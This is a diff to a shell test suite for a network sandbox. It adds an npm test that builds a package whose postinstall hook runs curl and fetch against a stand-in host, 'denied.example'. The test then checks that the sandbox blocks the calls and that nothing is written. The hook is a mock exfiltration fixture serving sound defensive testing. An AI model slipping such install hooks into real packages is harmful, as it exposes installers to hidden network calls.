@@ -77,6 +77,35 @@ python_client() {
                 "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://allowed.example/x\", timeout=9).read().decode().strip())'")"
 }
 
+# What the README shows: a package from the registry, here a mirror on the lab's nginx, and nothing from elsewhere. The
+# package's own script tries the rest.
+npm_client() {
+        need_command npm
+        mkdir -p package "$T/nginx/greet/-"
+        cat >package/package.json <<'JSON'
+{"name": "greet", "version": "1.0.0", "main": "greet.js",
+ "scripts": {"postinstall": "node -e \"fetch('https://denied.example/').catch(() => 0)\"; curl -s -m 9 https://denied.example/x >stolen || true"}}
+JSON
+        echo "module.exports = 'hello from npm'" >package/greet.js
+        tar -czf "$T/nginx/greet/-/greet-1.0.0.tgz" package
+        python3 - "$T/nginx/greet/-/greet-1.0.0.tgz" >"$T/nginx/greet/index.json" <<'PY'
+import base64, hashlib, json, sys
+data = open(sys.argv[1], "rb").read()
+dist = {"tarball": "https://allowed.example/greet/-/greet-1.0.0.tgz",
+        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()}
+v = {"name": "greet", "version": "1.0.0", "main": "greet.js", "dist": dist, "hasInstallScript": True}
+print(json.dumps({"name": "greet", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": v}}))
+PY
+        rm -rf package
+        mkdir app && cd app && echo '{"name": "app", "version": "1.0.0"}' >package.json
+        work --network allowlist --allow allowed.example -- \
+                'npm install --registry https://allowed.example/ --cafile /tmp/ca.pem --no-audit --no-fund greet' >out 2>&1 || fail "$(cat out)"
+        eq 'hello from npm' "$(node -p 'require("greet")')" # on the host: the workspace is the real one
+        eq '' "$(cat node_modules/greet/stolen 2>/dev/null)"
+        has "$(events network_blocked)" 'denied.example 443'
+        status 1 work --network allowlist -- 'npm install --fetch-retries 0 --registry https://allowed.example/ --cafile /tmp/ca.pem greet@1.0.1' >out 2>&1
+}
+
 # nothing but the proxy leads out, and what does not is refused at once; goes red with the host's network namespace
 no_way_out() {
         cat >way.py <<'PY'
@@ -258,6 +287,7 @@ t 'names through CONNECT and HTTP, and what is refused is told' names
 t 'a denylist' denylist
 t 'git' git_client
 t 'python' python_client
+t 'npm installs from the registry and nothing else' npm_client
 t 'no other way out' no_way_out
 t 'the loopback inside' own_loopback
 t 'whose sockets they are' sockets
